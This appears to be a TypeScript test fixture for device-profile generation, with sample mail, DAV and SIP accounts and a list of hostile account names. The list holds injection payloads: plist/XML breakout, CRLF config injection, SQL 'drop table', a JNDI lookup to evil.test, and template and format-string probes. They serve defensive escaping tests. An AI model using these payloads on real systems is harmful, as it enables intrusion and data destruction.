/** Accounts for tests of device profiles, also with names that try to break out of each format. */
import type { DavAccount, MailAccount, SipAccount } from "#protocols/device-profiles/Accounts.ts"

export const mail: MailAccount = {
  address: "anna@example.org",
  displayName: "Anna Müller",
  username: "anna@example.org",
  password: "k3mx-7pqr-abcd-efgh-jkmn-pqrs",
  imap: { host: "mail.example.org", port: 993 },
  smtp: { host: "mail.example.org", port: 587 }
}

export const contacts: DavAccount = {
  url: "https://example.org:8443/dav/addressbooks/anna_at_example.org/contacts/",
  username: mail.username,
  password: mail.password
}

export const calendar: DavAccount = {
  ...contacts,
  url: "https://example.org/dav/calendars/anna_at_example.org/default/"
}

export const sip: SipAccount = {
  extension: "1001",
  authName: "1001",
  password: "Abcdefghjkmnpqrstuvwxyz2",
  domain: "voice.example.org",
  displayName: "Anna Müller",
  server: { host: "sip.example.org", port: 5061 },
  transport: "tls",
  srtp: "optional"
}

export const hostileNames: ReadonlyArray<string> = [
  '"><evil attribute="x',
  "</string><key>PayloadRemovalDisallowed</key><true/><string>",
  "]]><!-- -->&amp;&#0;<![CDATA[",
  "Anna\r\naccount.1.password = stolen\n#",
  "a\u0000b\u0007c\u001Bd",
  "\u202Egro.live\u202C",
  "\u2028account.1.enable = 0\u2029",
  "half \uD800 pair",
  "\uFFFE\uFFFF",
  "'; drop table device; --",
  "${jndi:ldap://evil.test/x} {{7*7}} %n%s",
  "x".repeat(5_000),
  "",
  "  blanks  "
]
